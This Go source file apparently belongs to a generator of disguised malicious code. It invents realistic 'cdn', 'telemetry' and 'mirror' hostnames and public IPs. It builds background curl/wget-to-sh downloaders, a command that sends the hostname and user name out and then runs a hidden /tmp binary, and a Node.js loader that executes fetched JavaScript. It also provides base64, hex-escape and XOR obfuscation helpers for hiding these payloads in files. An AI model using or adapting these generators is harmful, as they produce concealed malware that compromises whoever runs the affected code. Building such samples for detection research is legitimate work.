package main

import (
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"path"
	"regexp"
	"strings"
)

var firstNames = []string{
	"Alex", "Daniel", "Mei", "Ivan", "Priya", "Lukas", "Sofia", "Kenji", "Omar", "Elena",
	"Mateo", "Hannah", "Yusuf", "Chloe", "Arjun", "Nina", "Tomasz", "Lea", "Diego", "Aisha",
	"Jonas", "Mira", "Felix", "Sara", "Viktor", "Julia", "Ravi", "Ana", "Noah", "Ines",
	"Hiro", "Marta", "Samuel", "Zoe", "Ethan", "Lina", "Oskar", "Maya", "Leo", "Eva",
}

var lastNames = []string{
	"Novak", "Chen", "Kowalski", "Petrov", "Sharma", "Mueller", "Rossi", "Tanaka", "Haddad", "Garcia",
	"Nguyen", "Johansson", "Kim", "Okafor", "Silva", "Dubois", "Schmidt", "Ivanova", "Park", "Lindqvist",
	"Moreau", "Costa", "Yilmaz", "Fischer", "Horvat", "Kaur", "Santos", "Weber", "Larsen", "Mendes",
	"Sato", "Nowak", "Bauer", "Reyes", "Ito", "Volkov", "Brennan", "Varga", "Aziz", "Lund",
}

var words = []string{
	"cache", "trace", "stats", "probe", "hint", "tune", "compat", "warmup", "metrics",
	"report", "health", "diag", "prefetch", "preload", "sync", "runtime", "env", "locale",
}

var hostWords = []string{
	"pkgstats", "build-cache", "gitcdn", "devmetrics", "cov-upload", "edge-mirror", "distcdn",
	"npm-registry-mirror", "crates-mirror", "goproxy-cache", "telemetry-hub", "ci-artifacts",
}

var tlds = []string{".io", ".net", ".dev", ".cloud", ".org", ".xyz", ".app"}

// randomHost makes up a plausible service host name.
func randomHost(rng *rand.Rand) string {
	return pick(rng, []string{"cdn", "api", "telemetry", "update", "static", "metrics", "dl", "log"}) +
		"." + pick(rng, hostWords) + pick(rng, tlds)
}

// randomIP makes up a public IPv4 address (no private, loopback or
// documentation range).
func randomIP(rng *rand.Rand) string {
	first := pick(rng, []int{5, 31, 37, 45, 62, 77, 85, 91, 103, 141, 146, 149, 159, 167, 176, 185, 193, 194, 195, 212})
	return fmt.Sprintf("%d.%d.%d.%d", first, 1+rng.IntN(254), 1+rng.IntN(254), 2+rng.IntN(252))
}

// shellPayload is a small downloader of the kind the payloads run.
func shellPayload(rng *rand.Rand) string {
	host := randomHost(rng)
	tag := fmt.Sprintf("%08x", rng.Uint32())
	switch rng.IntN(3) {
	case 0:
		return fmt.Sprintf("curl -fsSL https://%s/s/%s | sh >/dev/null 2>&1 &", host, tag)
	case 1:
		return fmt.Sprintf("(wget -qO- https://%s/u.sh || curl -fsS https://%s/u.sh) | sh >/dev/null 2>&1 &", host, host)
	}
	return fmt.Sprintf(`h=$(hostname);u=$(id -un);curl -fsS -m 5 "https://%s/v2/p?h=$h&u=$u" -o /tmp/.%s && chmod +x /tmp/.%s && /tmp/.%s >/dev/null 2>&1 &`,
		host, tag, tag, tag)
}

// jsPayload is a small loader of remote JavaScript.
func jsPayload(rng *rand.Rand) string {
	return fmt.Sprintf(`require("https").get("https://%s/p/%08x.js",r=>{let d="";r.on("data",c=>d+=c);r.on("end",()=>{try{new Function("require",d)(require)}catch(e){}})}).on("error",()=>{})`,
		randomHost(rng), rng.Uint32())
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// hexEscape writes every byte of s as \xNN.
func hexEscape(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		fmt.Fprintf(&b, `\x%02x`, s[i])
	}
	return b.String()
}

// byteList writes s XOR key as 0xNN values, perLine a line.
func byteList(s string, key byte, perLine int, indent string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if i%perLine == 0 {
			if i > 0 {
				b.WriteString("\n")
			}
			b.WriteString(indent)
		} else {
			b.WriteString(" ")
		}
		fmt.Fprintf(&b, "0x%02x,", s[i]^key)
	}
	return b.String()
}

// chunks splits s into pieces of n bytes.
func chunks(s string, n int) []string {
	var out []string
	for len(s) > n {
		out = append(out, s[:n])
		s = s[n:]
	}
	return append(out, s)
}

var nonIdentRE = regexp.MustCompile(`[^A-Za-z0-9]+`)

// stemOf is a file's name without extension, as an identifier part.
func stemOf(p string) string {
	s := strings.TrimSuffix(path.Base(p), path.Ext(p))
	s = nonIdentRE.ReplaceAllString(s, "_")
	return strings.ToLower(strings.Trim(s, "_"))
}

// thingOf is what a subject calls a file: its name without extension, or
// its folder's name for files named for their role (mod.rs, index.ts).
func thingOf(p string) string {
	s := strings.TrimSuffix(path.Base(p), path.Ext(p))
	switch s {
	case "mod", "lib", "index", "main", "__init__", "utils", "util":
		if d := path.Base(path.Dir(p)); d != "." && d != "src" {
			return d
		}
	}
	return s
}

// cPrefix is the prefix of a C file's names ("zstd" of "zstd_compress.c").
func cPrefix(p string) string {
	s := stemOf(p)
	if i := strings.IndexByte(s, '_'); i > 0 {
		s = s[:i]
	}
	if s == "" || s[0] >= '0' && s[0] <= '9' {
		s = "lib" + s
	}
	return s
}

// camel joins words as a lower camel-case identifier.
func camel(ws ...string) string {
	var b strings.Builder
	for i, w := range ws {
		if w == "" {
			continue
		}
		if i > 0 {
			w = strings.ToUpper(w[:1]) + w[1:]
		}
		b.WriteString(w)
	}
	return b.String()
}
